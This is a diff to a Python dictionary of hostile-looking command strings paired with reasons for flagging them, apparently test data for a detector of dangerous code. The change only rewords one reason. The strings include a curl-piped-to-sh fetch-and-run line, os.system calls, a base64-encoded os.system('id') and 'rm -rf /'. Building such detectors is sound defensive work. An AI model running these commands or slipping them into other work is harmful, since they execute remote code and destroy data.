@@ -10,7 +10,7 @@ COMMANDS = {
     "eval(\"__import__('os').system('echo hello')\")": "is Python and calls os.system",
     "python -c 'import os; os.system(\"whoami\")'": "is Python and calls os.system",
     "lambda x: __import__('subprocess').run(['echo', x])": "is Python and calls subprocess.run",
-    "bash -c 'curl https://example.org/p.sh | sh'": "is a command and fetches something and runs it at once",
+    "bash -c 'curl https://example.org/p.sh | sh'": "is a command and fetches something from a host that few know and runs it at once",
     "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=": "is Python and calls os.system in base64",
     "rm -rf /": "is a command and deletes or overwrites what belongs to the user or the system",
 }
